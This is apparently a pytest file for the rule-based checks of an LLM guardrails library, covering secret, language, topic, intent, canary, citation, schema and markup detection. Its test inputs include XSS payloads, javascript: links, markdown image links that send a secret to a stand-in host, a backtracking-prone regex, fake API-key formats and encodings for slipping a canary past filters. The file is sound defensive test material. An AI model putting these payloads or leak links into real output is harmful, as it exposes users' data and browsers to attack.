"""The checks that read texts by rules: secrets, language, topics, forms and markup."""

from __future__ import annotations

import base64
import json
import random
import string
import time
from collections.abc import Mapping

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from anabranch_faults import Invalid
from anabranch_guardrails.adapters.catalogue import catalogue
from anabranch_guardrails.adapters.formal import estimated_tokens, pattern_problem, schema_problem
from anabranch_guardrails.domain import Context, Finding, Stage, Subject

BY_RULES = (
    "length",
    "patterns",
    "language",
    "secrets",
    "pii",
    "topics",
    "intent",
    "canary",
    "schema",
    "citations",
    "markup",
    "relevance",
    "groundedness",
)
FACTORIES = {kind.name: kind.make for kind in catalogue().kinds if kind.name in BY_RULES and kind.make is not None}
OPTIONS: Mapping[str, Mapping[str, object]] = {
    "patterns": {"patterns": ["(a+)+$"]},
    "language": {"languages": ["en"]},
    "topics": {"denied": {"medical": ["What dose of ibuprofen should I take?"]}},
    "intent": {"unsupported": {"booking": ["Book a flight to Rome", "Reserve a hotel room for two nights"]}},
}
PASSAGES = (
    Context(
        text="Paris is the capital of France. See https://docs.example.com/paris.",
        source_uri="https://kb.example.net/a",
    ),
)


def look(name: str, text: str, options: Mapping[str, object] | None = None, **more: object) -> Finding:
    check = FACTORIES[name](OPTIONS.get(name, {}) if options is None else options)
    return check.look(Subject(stage=Stage.OUTPUT, text=text, **more))  # type: ignore[arg-type] # fields by name


def random_text(size: int, letters: str = string.ascii_letters + string.digits) -> str:
    return "".join(random.Random(size).choices(letters, k=size))  # noqa: S311  made-up texts are no secrets


# --- secrets


@pytest.mark.parametrize(
    "secret",
    [
        "AKIA" + random_text(16, string.ascii_uppercase + "234567"),
        "ghp_" + random_text(36),
        "github_pat_" + random_text(82),
        "sk-proj-" + random_text(100),
        "sk-ant-api03-" + random_text(95),
        "sk_live_" + random_text(24),
        "AIza" + random_text(35),
        "xoxb-123456789012-" + random_text(24),
        "hf_" + random_text(34),
        "glpat-" + random_text(20),
        "SG." + random_text(22) + "." + random_text(43),
        "-----BEGIN RSA PRIVATE KEY-----\n" + random_text(64) + "\n-----END RSA PRIVATE KEY-----",
        "eyJ" + random_text(30) + ".eyJ" + random_text(60) + "." + random_text(43),
    ],
)
def test_keys_of_makers_are_found_whole_and_never_repeated(secret: str) -> None:
    text = f"please use {secret} for it"
    finding = look("secrets", text)
    assert [text[span.start : span.end] for span in finding.spans] == [secret]
    assert finding.score == 1.0
    assert secret[8:] not in finding.reason


@pytest.mark.parametrize(
    ("text", "secret"),
    [
        ("postgres://bob:hunter22x@db.example.com:5432/x", "hunter22x"),
        ('password = "correct-horse-9"', "correct-horse-9"),
        ("my password is hunter2xyz.", "hunter2xyz"),
        ("PASSWORD=tr0ub4dor&3", "tr0ub4dor&3"),
        ("api_key: " + random_text(32), random_text(32)),
        ('dbPassword: "s3cr3t!!"', "s3cr3t!!"),
    ],
)
def test_what_a_name_says_is_secret_is_found(text: str, secret: str) -> None:
    assert [text[span.start : span.end] for span in look("secrets", text).spans] == [secret]


@pytest.mark.parametrize(
    "text",
    [
        "commit 4f3d2a1b9c8e7f6a5d4c3b2a1908f7e6d5c4b3a2",
        "sha256: e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855",
        "uuid 550e8400-e29b-41d4-a716-446655440000",
        "data:image/png;base64," + base64.b64encode(bytes(range(256)) * 3).decode(),
        "password: required",
        'password = os.environ["X"]',
        "password=${DB_PASSWORD}",
        "api_key=your_api_key_here",
        "How do I reset my password? It is forgotten.",
        "tokens = tokenizer.encode(text)",
        "primary_key=True, max_tokens=4096",
        "the access token expires in 3600 seconds",
        "sk-learn and sk-image are packages",
        "compass: north-east1",
        "the password was changed in 2023",
        "http://user@host/ and https://example.com/a:b@c",
    ],
)
def test_hashes_names_and_places_to_fill_in_are_no_secrets(text: str) -> None:
    assert look("secrets", text).spans == ()


def test_only_kinds_of_secrets_asked_for_are_found() -> None:
    text = 'password = "correct-horse-9" and ghp_' + random_text(36)
    assert len(look("secrets", text, {"kinds": ["PASSWORD"]}).spans) == 1


# --- language, length


def test_a_text_in_another_language_is_found_and_a_short_one_is_undecided() -> None:
    assert look("language", "Wie ändere ich meine Adresse, wenn ich umgezogen bin und nichts mehr weiß?").score > 0.9
    assert look("language", "How do I change the address that my account is registered with?").score < 0.1
    assert look("language", "ok").score == 0.0
    assert look("language", "Как мне изменить адрес").score > 0.9
    assert look("language", "Wie ändere ich meine Adresse, wenn ich umgezogen bin?", {}).score == 0.0


def test_a_language_that_nobody_knows_is_refused() -> None:
    with pytest.raises(Invalid) as caught:
        FACTORIES["language"]({"languages": ["klingon"]})
    assert caught.value.field == "options.languages"


def test_too_many_characters_tokens_or_costs_are_found_and_said() -> None:
    assert look("length", "x" * 4_096).score == 0.0
    assert look("length", "x" * 4_097).reason == "4097 characters, 4096 are allowed"
    assert look("length", "x" * 100, {"tokens": 20}).score == 1.0
    assert look("length", "x", {"tokens": 20}, turns=("y" * 100,)).score == 1.0
    assert look("length", "x" * 4_000, {"micros": 10, "micros_per_1000_tokens": 100}).score == 1.0
    assert estimated_tokens(["12345678", "1"]) == 3


# --- topics, intent, relevance


def test_texts_like_a_denied_topic_or_unlike_all_allowed_ones_are_found() -> None:
    assert look("topics", "What dose of ibuprofen may I take?").score > 0.5
    assert look("topics", "What does the transfer cost?").score < 0.3
    allowed = {"allowed": {"banking": ["What are the fees of a money transfer?", "I lost my credit card"]}}
    assert look("topics", "What are the transfer fees?", allowed).score < 0.3
    assert look("topics", "Who won the football match yesterday?", allowed).score > 0.9


def test_unsupported_intents_are_found_by_example_and_a_follow_up_is_read_with_its_question() -> None:
    assert look("intent", "Book me a flight to Paris").score > 0.5
    assert look("intent", "What is Paris the capital of?").score < 0.3
    assert look("intent", "And Paris?", turns=("Book me a flight to Rome",)).score > 0.3


def test_an_answer_about_something_else_is_off_topic() -> None:
    question = "What is the capital of France?"
    assert look("relevance", "The capital of France is Paris.", question=question, contexts=PASSAGES).score < 0.2
    off = "Quarterly revenue grew because semiconductor demand recovered strongly."
    assert look("relevance", off, question=question, contexts=PASSAGES).score > 0.9
    assert look("relevance", "Yes.", question=question, contexts=PASSAGES).score == 0.0


# --- patterns


def test_a_pattern_that_explodes_elsewhere_is_harmless() -> None:
    began = time.process_time()
    finding = look("patterns", "a" * 100_000 + "b")
    assert time.process_time() - began < 2.0
    assert finding.score == 0.0


def test_matches_are_told_in_code_points_under_their_kinds() -> None:
    finding = look("patterns", "né 42é 43", {"patterns": {"answer": ["\\d+é?"]}})
    assert [(span.start, span.end, span.kind) for span in finding.spans] == [(3, 6, "ANSWER"), (7, 9, "ANSWER")]


@pytest.mark.parametrize("pattern", ["(a", "a*", "", "(?=a)b", "x" * 2_000, "(((a{1,1000}){1,1000}){1,1000})"])
def test_a_pattern_that_cannot_be_used_is_refused_in_a_sentence(pattern: str) -> None:
    assert pattern_problem(pattern)
    with pytest.raises(Invalid) as caught:
        FACTORIES["patterns"]({"patterns": [pattern]})
    assert caught.value.field.startswith("options.patterns")


# --- canary, citations, schema


@pytest.mark.parametrize(
    "write",
    [
        str,
        lambda word: word.upper(),
        " ".join,
        lambda word: word[::-1],
        lambda word: base64.b64encode(f"it is {word}, yes".encode()).decode(),
        lambda word: base64.b64encode(f"so it is {word}".encode()).decode(),
        lambda word: word.encode().hex(),
        lambda word: "".join(f"%{byte:02X}" for byte in word.encode()),
        lambda word: word.translate(str.maketrans("abcdefghijklmnopqrstuvwxyz", "nopqrstuvwxyzabcdefghijklm")),
        "\u200b".join,
    ],
)
def test_a_canary_is_found_however_it_is_written(write: object) -> None:
    word = "cnry-7f3a9b2c"
    text = f"Sure: {write(word)} is it"  # type: ignore[operator] # all are functions
    finding = look("canary", text, canary=word)
    assert finding.score >= 0.95
    assert word not in finding.reason
    assert look("canary", "Sure, nothing of the kind is here.", canary=word).score == 0.0


def test_citations_of_what_is_not_there_and_of_what_does_not_say_so_are_found() -> None:
    contexts = (Context(text="Paris is the capital of France."), Context(text="The moon orbits the earth."))
    assert look("citations", "Paris is the capital of France [1].", citations=2, contexts=contexts).score == 0.0
    assert look("citations", "Paris is the capital of France [3].", citations=2, contexts=contexts).score == 1.0
    assert look("citations", "Paris is the capital of France [2].", citations=2, contexts=contexts).score > 0.5
    assert look("citations", "`a[9]` and [7](https://x.org)", citations=2, contexts=contexts).score == 0.0
    assert look("citations", "Anything [9].", contexts=contexts).score == 0.0


def test_answers_that_are_not_of_the_schema_are_found_and_not_repeated() -> None:
    schema = json.dumps({"type": "object", "required": ["a"], "properties": {"a": {"type": "integer"}}})
    assert look("schema", '{"a": 1}', schema=schema).score == 0.0
    assert look("schema", '```json\n{"a": 1}\n```', schema=schema).score == 0.0
    assert look("schema", '{"a":', schema=schema).reason == "is JSON that ends too early"
    assert look("schema", '{"a": "hush"}', schema=schema).reason == "is not of the schema, by properties/a/type"
    assert "nested" in look("schema", "[" * 100_000, schema=schema).reason
    assert look("schema", '{"a": NaN}', schema=schema).score == 1.0
    assert look("schema", "anything").score == 0.0


@pytest.mark.parametrize(
    "schema",
    ['{"$ref": "http://127.0.0.1:9/x.json"}', '{"type": "foo"}', '{"pattern": "(?=a)"}', "[]", "{", "[" * 5_000],
)
def test_a_schema_that_cannot_be_held_to_or_is_elsewhere_is_refused(schema: str) -> None:
    assert schema_problem(schema)


# --- markup


@pytest.mark.parametrize(
    ("text", "kind"),
    [
        ("<script>alert(1)</script>", "SCRIPT"),
        ("<img src=x onerror=alert(1)>", "HANDLER"),
        ("<svg/onload=alert(1)>", "HANDLER"),
        ("![a](https://evil.test/x?d=SECRET)", "FOREIGN_IMAGE"),
        ("![x][1]\n\n[1]: https://evil.test/a", "FOREIGN_IMAGE"),
        ('<div style="background:url(https://evil.test/a?b)">', "FOREIGN_IMAGE"),
        ('<img src="https://evil.test/p.png', "FOREIGN_IMAGE"),
        ("![x](https://docs.example.com/p?leak=1)", "FOREIGN_IMAGE"),
        ("[click](javascript:alert(1))", "UNSAFE_SCHEME"),
        ("[click](java&#115;cript:alert(1))", "UNSAFE_SCHEME"),
        ('<a href="jAvA\tScRiPt:alert(1)">x</a>', "UNSAFE_SCHEME"),
        ("[y](data:text/html;base64,AAA)", "UNSAFE_SCHEME"),
        ('<iframe src="//evil.test">', "ACTIVE_CONTENT"),
        ("see [x](https://evil.test/a?q=1)", "FOREIGN_LINK"),
        ("[t](https://docs.example.com@evil.test/)", "FOREIGN_LINK"),
    ],
)
def test_markup_that_runs_loads_or_sends_is_found_whole(text: str, kind: str) -> None:
    finding = look("markup", text, contexts=PASSAGES)
    assert kind in {span.kind for span in finding.spans}
    assert finding.score >= 0.8


@pytest.mark.parametrize(
    "text",
    [
        "see https://docs.example.com/paris.",
        "[x](https://docs.example.com/paris) and <a href=https://kb.example.net/a>ok</a>",
        "![i](https://img.allowed.test/a.png)",
        "```html\n<script>x</script>\n```",
        "use `<script>` tags, a < b and c > d",
        "List<String> x = new ArrayList<>(); // a comment",
        "[a](/relative) [b](mailto:x@y.z) <b>bold</b><br/>",
    ],
)
def test_what_passages_and_policy_vouch_for_and_code_pass(text: str) -> None:
    assert look("markup", text, {"hosts": ["allowed.test"]}, contexts=PASSAGES).score == 0.0


def test_a_host_that_is_none_is_refused() -> None:
    with pytest.raises(Invalid) as caught:
        FACTORIES["markup"]({"hosts": ["https://example.org/"]})
    assert caught.value.field == "options.hosts"


# --- all of them


@pytest.mark.parametrize("name", sorted(FACTORIES))
def test_an_option_that_a_check_does_not_have_is_refused(name: str) -> None:
    with pytest.raises(Invalid) as caught:
        FACTORIES[name]({**OPTIONS.get(name, {}), "colour": "red"})
    assert caught.value.field == "options.colour"


@pytest.mark.parametrize("name", sorted(FACTORIES))
@given(text=st.text(max_size=200))
@settings(max_examples=25, deadline=None)
def test_any_text_gives_a_finding_whose_spans_are_in_it(name: str, text: str) -> None:
    finding = look(name, text, question="what?", contexts=PASSAGES, canary="abcdef123", citations=1)
    assert all(span.end <= len(text) for span in finding.spans)
    assert finding == look(name, text, question="what?", contexts=PASSAGES, canary="abcdef123", citations=1)


@pytest.mark.parametrize("name", sorted(FACTORIES))
def test_five_megabytes_take_bounded_time(name: str) -> None:
    check = FACTORIES[name](OPTIONS.get(name, {}))
    subject = Subject(
        stage=Stage.OUTPUT,
        text=("The capital of France is Paris, see [1] and <b>x</b>. " * 100_000)[:5_000_000],
        question="What is the capital of France?",
        contexts=PASSAGES,
        canary="abcdef123",
        citations=1,
    )
    began = time.process_time()
    check.look(subject)
    assert time.process_time() - began < 8.0


@pytest.mark.parametrize("name", ["secrets", "markup", "citations", "canary", "schema"])
@pytest.mark.parametrize(
    "unit",
    [
        "<",
        "<script ",
        "[",
        "![",
        "](",
        "```",
        "`",
        "<a href=",
        "password=",
        "eyJ",
        "-----BEGIN RSA PRIVATE KEY-----",
        "{",
        '"',
        "\\",
        "on",
        "[1",
        "a://b:",
    ],
)
def test_no_text_of_one_thing_over_and_over_takes_long(name: str, unit: str) -> None:
    text = (unit * (100_000 // len(unit)))[:100_000]
    began = time.process_time()
    look(name, text, contexts=PASSAGES, canary="abcdef123", citations=1, schema='{"type": "object"}')
    assert time.process_time() - began < 5.0
